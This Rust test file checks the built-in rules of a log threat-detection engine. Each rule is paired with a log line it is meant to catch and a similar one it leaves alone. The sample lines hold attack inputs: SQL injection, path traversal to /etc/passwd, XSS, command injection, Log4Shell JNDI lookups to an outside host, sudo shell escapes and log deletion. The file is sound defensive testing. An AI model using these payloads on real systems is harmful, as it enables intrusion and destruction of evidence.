//! Every built-in rule: that it loads, what it finds, and what it leaves alone.

use std::borrow::Cow;
use std::collections::BTreeSet;

use threatstream_detection::decode::{Format, decode};
use threatstream_detection::mitre::technique;
use threatstream_detection::pack;
use threatstream_detection::sigma::RuleSet;
use threatstream_domain::Timestamp;

fn load() -> RuleSet {
    RuleSet::load(pack::builtin().map(|(name, text)| (Cow::Borrowed(name), Cow::Borrowed(text))))
}

fn titles(rules: &RuleSet, line: &str) -> Vec<String> {
    let received_at: Timestamp = "2026-11-22T12:00:00Z".parse().unwrap();
    let event = decode(line, Format::Auto, received_at);
    let found: Vec<_> = rules
        .matches(&event)
        .iter()
        .map(|found| found.rule.title.clone())
        .collect();
    let all: Vec<_> = rules
        .matches_unfiltered(&event)
        .iter()
        .map(|found| found.rule.title.clone())
        .collect();
    assert_eq!(found, all, "the prefilter loses nothing: {line}");
    assert!(
        found.is_empty() || rules.might_match(line.as_bytes()),
        "nor does the scan of the line: {line}"
    );
    found
}

/// A rule's title, a line that it finds, and one much like it that it does not.
const EXAMPLES: &[(&str, &str, &str)] = &[
    (
        "SSH Login Failed",
        "Dec 10 07:28:08 LabSZ sshd[24247]: Failed password for root from 203.0.113.7 port 55618 ssh2",
        "Dec 10 07:28:06 LabSZ sshd[24247]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root",
    ),
    (
        "SSH Login Failed",
        "Jun 28 08:10:24 combo sshd(pam_unix)[11513]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=203.0.113.7  user=root",
        "Mar 29 14:15:41 web sshd[2414]: Failed publickey for ubuntu from 203.0.113.7 port 50378 ssh2",
    ),
    (
        "SSH Login Attempt with Some User Name",
        "Mar 29 14:15:41 web sshd[2414]: Failed password for invalid user pi from 203.0.113.7 port 50378 ssh2",
        "Mar 29 14:15:41 web sshd[2414]: Accepted password for ana from 10.0.0.9 port 50378 ssh2",
    ),
    (
        "SSH Login with an Unknown User",
        "Sep 30 12:11:33 web sshd-session[22789]: Invalid user hadoop from 203.0.113.7 port 56762",
        "Sep 30 12:11:33 web sshd-session[22789]: Failed password for invalid user hadoop from 203.0.113.7 port 56762 ssh2",
    ),
    (
        "SSH Attempts Cut Off Within One Connection",
        "Mar 27 20:36:49 web sshd[21242]: error: maximum authentication attempts exceeded for root from 203.0.113.7 port 43002 ssh2 [preauth]",
        "Mar 30 21:54:16 web sshd[16330]: message repeated 2 times: [ Failed password for ana from 10.0.0.9 port 49532 ssh2]",
    ),
    (
        "SSH Attempts Cut Off Within One Connection",
        "Mar 30 21:54:16 web sshd[16330]: message repeated 5 times: [ Failed password for root from 203.0.113.7 port 49532 ssh2]",
        "Mar 30 21:54:16 web sshd[16330]: message repeated 5 times: [ Accepted password for ana from 10.0.0.9 port 49532 ssh2]",
    ),
    (
        "SSH Connection That Never Logged In",
        "Mar 27 17:26:16 web sshd[14655]: Did not receive identification string from 203.0.113.7",
        "Mar 27 17:08:23 web sshd[3058]: Received disconnect from 10.0.0.9 port 57684:11: disconnected by user",
    ),
    (
        "Sudo Refused After Three Wrong Passwords",
        "Mar 27 17:31:29 web sudo:      bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
        "Mar 27 17:31:29 web sudo:      bob : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls",
    ),
    (
        "Sudo by a User Who May Not",
        "Mar 27 17:31:29 web sudo:      bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls",
        "Mar 27 17:31:29 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/echo NOT in sudoers",
    ),
    (
        "Shell Escape Through Sudo",
        "Mar 27 17:31:29 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/vim -c :!/bin/sh",
        "Mar 27 17:31:29 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/vim /etc/resolvconf/resolv.conf.d/base",
    ),
    (
        "Shell Escape Through Sudo",
        "Mar 27 17:31:29 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;",
        "Mar 27 17:31:29 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/find . -name setup.sh",
    ),
    (
        "System Logs or Command History Destroyed",
        "Mar 27 17:31:29 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/rm -f /var/log/auth.log",
        "Mar 27 17:31:29 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/less /var/log/auth.log",
    ),
    (
        "Switching User Failed",
        "Mar 27 16:16:42 web su[3537]: FAILED SU (to root) bob on pts/0",
        "Mar 27 16:16:42 web su[3537]: Successful su for root by root",
    ),
    (
        "Local User Created with a Login Shell",
        "Feb 24 09:19:55 web useradd[8002]: new user: name=eve, UID=1006, GID=1006, home=/home/eve, shell=/bin/bash",
        "Feb 24 09:19:55 web useradd[8002]: new user: name=mysql, UID=106, GID=111, home=/nonexistent, shell=/bin/false",
    ),
    (
        "Second Superuser Created",
        "Feb 24 09:19:55 web useradd[8002]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/false",
        "Feb 24 09:19:55 web useradd[8002]: new user: name=mysql, UID=106, GID=0, home=/nonexistent, shell=/bin/false",
    ),
    (
        "User Added to an Administrators' Group",
        "Feb 24 09:19:55 web usermod[8002]: add 'eve' to group 'sudo'",
        "Feb 24 09:19:55 web usermod[8002]: add 'eve' to group 'audio'",
    ),
    (
        "SQL Injection in a Request",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /item?id=1%27%20UNION/**/SELECT%20password%20FROM%20users HTTP/1.1" 200 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /search?q=western+union+select+branch HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "SQL Injection in a Request",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /login?user=admin'+or+'1'='1 HTTP/1.1" 200 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /search?q=rock+'n'+roll+or+jazz HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "Path Traversal or Local File Inclusion",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /cgi-bin/.%252e/.%252e/.%252e/etc/passwd HTTP/1.1" 404 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /articles/the-passwd-file...explained HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "Cross-Site Scripting in a Request",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /q?name=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /docs/script-tag?onload=true HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "Command or Code Injection in a Request",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /ping?host=127.0.0.1;cat%20/etc/hostname HTTP/1.1" 200 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /list?animals=dog;cat&page=2 HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "Log4Shell Lookup in a Request",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "${jndi:ldap://203.0.113.9/a}""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /docs/jndi:ldap HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "Log4Shell Lookup in a Request",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A//203.0.113.9/a%7D HTTP/1.1" 200 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /?template=${title} HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "Attack Tool by Its User Agent",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /about-sqlmap HTTP/1.1" 200 1 "-" "Mozilla/5.0""#,
    ),
    (
        "Request for a File That Must Not Be Served",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /app/.env HTTP/1.1" 404 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /blog/using-.env-files HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "Page Not Found",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /missing HTTP/1.1" 404 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /missing HTTP/1.1" 200 404 "-" "curl""#,
    ),
    (
        "Web Login Refused",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "POST /wp-login.php HTTP/1.1" 200 1 "-" "curl""#,
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /wp-login.php HTTP/1.1" 200 1 "-" "curl""#,
    ),
    (
        "AWS Console Login as Root",
        r#"{"eventVersion":"1.08","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userIdentity":{"type":"Root"},"responseElements":{"ConsoleLogin":"Success"}}"#,
        r#"{"eventVersion":"1.08","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userIdentity":{"type":"IAMUser","userName":"ana"},"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"Yes"}}"#,
    ),
    (
        "AWS Console Login Without a Second Factor",
        r#"{"eventVersion":"1.08","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userIdentity":{"type":"IAMUser","userName":"ana"},"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}}"#,
        r#"{"eventVersion":"1.08","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userIdentity":{"type":"AssumedRole"},"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}}"#,
    ),
    (
        "AWS Console Login Failed",
        r#"{"eventVersion":"1.08","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userIdentity":{"type":"IAMUser","userName":"ana"},"responseElements":{"ConsoleLogin":"Failure"}}"#,
        r#"{"eventVersion":"1.08","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userIdentity":{"type":"IAMUser","userName":"ana"},"responseElements":{"ConsoleLogin":"Success"}}"#,
    ),
    (
        "AWS Logging or Detection Switched Off",
        r#"{"eventVersion":"1.08","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","userIdentity":{"type":"IAMUser"}}"#,
        r#"{"eventVersion":"1.08","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","errorCode":"AccessDenied","userIdentity":{"type":"IAMUser"}}"#,
    ),
    (
        "AWS Access Key Created for Another User",
        r#"{"eventVersion":"1.08","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","userIdentity":{"type":"IAMUser","userName":"ana"},"requestParameters":{"userName":"bob"}}"#,
        r#"{"eventVersion":"1.08","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","userIdentity":{"type":"IAMUser","userName":"ana"},"requestParameters":{"userName":"ana"}}"#,
    ),
    (
        "AWS Security Group Opened to the Internet",
        r#"{"eventVersion":"1.08","eventSource":"ec2.amazonaws.com","eventName":"AuthorizeSecurityGroupIngress","requestParameters":{"ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}}}"#,
        r#"{"eventVersion":"1.08","eventSource":"ec2.amazonaws.com","eventName":"AuthorizeSecurityGroupIngress","requestParameters":{"ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]}}]}}}"#,
    ),
    (
        "AWS Bucket Made Public",
        r#"{"eventVersion":"1.08","eventSource":"s3.amazonaws.com","eventName":"PutBucketPolicy","requestParameters":{"bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"s3:GetObject"}]}}}"#,
        r#"{"eventVersion":"1.08","eventSource":"s3.amazonaws.com","eventName":"PutBucketPolicy","requestParameters":{"bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::1:root"},"Action":"*"}]}}}"#,
    ),
    (
        "GCP Policy Grants Ownership or Opens to Everyone",
        r#"{"protoPayload":{"methodName":"SetIamPolicy","serviceData":{"policyDelta":{"bindingDeltas":[{"action":"ADD","role":"roles/owner","member":"user:eve@example.com"}]}}},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
        r#"{"protoPayload":{"methodName":"SetIamPolicy","serviceData":{"policyDelta":{"bindingDeltas":[{"action":"REMOVE","role":"roles/owner","member":"user:eve@example.com"}]}}},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
    ),
    (
        "GCP Service Account Key Created",
        r#"{"protoPayload":{"methodName":"google.iam.admin.v1.CreateServiceAccountKey"},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
        r#"{"protoPayload":{"methodName":"google.iam.admin.v1.ListServiceAccountKeys"},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
    ),
    (
        "GCP Firewall Opened to the Internet",
        r#"{"protoPayload":{"methodName":"v1.compute.firewalls.insert","request":{"sourceRanges":["0.0.0.0/0"],"alloweds":[{"IPProtocol":"tcp"}]}},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
        r#"{"protoPayload":{"methodName":"v1.compute.firewalls.insert","request":{"sourceRanges":["10.0.0.0/8"],"alloweds":[{"IPProtocol":"tcp"}]}},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
    ),
    (
        "GCP Log Sink Deleted or Disabled",
        r#"{"protoPayload":{"methodName":"google.logging.v2.ConfigServiceV2.DeleteSink"},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
        r#"{"protoPayload":{"methodName":"google.logging.v2.ConfigServiceV2.ListSinks"},"logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}"#,
    ),
    (
        "Reported Brute Force with Many Attempts",
        r#"{"event_type":"brute_force","source_ip":"203.0.113.7","payload":{"attempts":10},"metadata":{"verdict":"normal"}}"#,
        r#"{"event_type":"brute_force","source_ip":"203.0.113.7","payload":{"attempts":9},"metadata":{"attempts":1000}}"#,
    ),
    (
        "Reported Brute Force with Very Many Attempts",
        r#"{"event_type":"brute_force","source_ip":"203.0.113.7","payload":{"attempts":100}}"#,
        r#"{"event_type":"login","source_ip":"203.0.113.7","payload":{"attempts":100}}"#,
    ),
    (
        "Reported SQL Injection with an Injected Query",
        r#"{"event_type":"sql_injection","payload":{"query":"SELECT * FROM users WHERE id = 1 OR 1=1 --"}}"#,
        r#"{"event_type":"sql_injection","payload":{"query":"SELECT name FROM users WHERE id = 1"},"metadata":{"query":"' OR 1=1 --"}}"#,
    ),
    (
        "Reported Flood",
        r#"{"event_type":"ddos","payload":{"packets_per_sec":10000}}"#,
        r#"{"event_type":"ddos","payload":{"packets_per_sec":900}}"#,
    ),
    (
        "Reported Massive Flood",
        r#"{"event_type":"ddos","payload":{"packets_per_sec":250000.5}}"#,
        r#"{"event_type":"ddos","payload":{"packets_per_sec":99999}}"#,
    ),
    (
        "Reported Encryption of Files",
        r#"{"event_type":"ransomware","payload":{"encrypted_files":99}}"#,
        r#"{"event_type":"ransomware","payload":{"encrypted_files":100}}"#,
    ),
    (
        "Reported Mass Encryption of Files",
        r#"{"event_type":"ransomware","payload":{"encrypted_files":4000}}"#,
        r#"{"event_type":"ransomware","payload":{}}"#,
    ),
];

#[test]
fn every_rule_loads_and_is_complete() {
    let rules = load();
    assert_eq!(rules.set_aside(), [], "none is set aside");
    assert!(rules.rules().len() + rules.correlations().len() >= 40);
    let mut ids = BTreeSet::new();
    for rule in rules.rules() {
        assert!(
            ids.insert(&rule.id) && rule.id.len() == 36,
            "{} has an id of its own",
            rule.title
        );
        assert!(!rule.techniques.is_empty(), "{} names a technique", rule.title);
        assert!(
            rule.techniques.iter().all(|id| technique(id).is_some()),
            "{}: {:?}",
            rule.title,
            rule.techniques
        );
        assert!(
            !rule.false_positives.is_empty(),
            "{} says what else it may be",
            rule.title
        );
        assert!(
            !rule.alerts_alone || !rule.recommended_actions.is_empty(),
            "{} says what to do",
            rule.title
        );
    }
    for correlation in rules.correlations() {
        assert!(
            ids.insert(&correlation.id),
            "{} has an id of its own",
            correlation.title
        );
        assert!(
            correlation.techniques.iter().all(|id| technique(id).is_some()),
            "{}",
            correlation.title
        );
        assert!(
            !correlation.recommended_actions.is_empty(),
            "{} says what to do",
            correlation.title
        );
    }
}

#[test]
fn every_rule_finds_what_it_is_for_and_leaves_its_neighbour_alone() {
    let rules = load();
    let mut failed = Vec::new();
    for (title, found, not_found) in EXAMPLES {
        if !titles(&rules, found).iter().any(|own| own == title) {
            failed.push(format!("{title} misses {found}"));
        }
        if titles(&rules, not_found).iter().any(|own| own == title) {
            failed.push(format!("{title} takes {not_found}"));
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n"));
    for rule in rules.rules() {
        assert!(
            EXAMPLES.iter().any(|(title, ..)| *title == rule.title),
            "{} has an example",
            rule.title
        );
    }
}

#[test]
fn no_rule_makes_every_line_worth_a_parse() {
    let rules = load();
    let unfiltered: Vec<_> = rules.unfiltered().map(|rule| rule.title.as_str()).collect();
    assert!(
        unfiltered.is_empty(),
        "these need a text that the line must show: {unfiltered:?}"
    );
}

#[test]
fn ordinary_work_is_no_threat() {
    let rules = load();
    for line in [
        "Mar 27 17:08:36 web sshd[14516]: Accepted publickey for ubuntu from 10.0.0.9 port 58981 ssh2: RSA SHA256:Kl8kPGZrTiz7g4FO1hyqHdsSBBb5Fge6NWOobN03XJg",
        "Mar 27 16:17:29 web sudo: pam_unix(sudo:session): session opened for user root by ubuntu(uid=0)",
        "Mar 27 17:31:29 web sudo:   ubuntu : TTY=pts/0 ; PWD=/usr/share/filebeat ; USER=root ; COMMAND=/usr/bin/filebeat.sh -e -modules=system -setup",
        "Mar 27 16:17:01 web CRON[3550]: pam_unix(cron:session): session opened for user root by (uid=0)",
        r#"203.0.113.7 - - [22/Nov/2026:09:00:00 +0000] "GET /select/union?order=by&from=here HTTP/1.1" 200 1 "-" "Mozilla/5.0""#,
        r#"{"event_type":"login","source_ip":"203.0.113.7","payload":{"user":"ana","success":true}}"#,
        r#"{"event_type":"brute_force","source_ip":"203.0.113.7"}"#,
        r#"{"event_type":"sql_injection","payload":{"query":"hello"}}"#,
    ] {
        let found = titles(&rules, line);
        assert!(found.is_empty(), "{found:?} in {line}");
    }
}
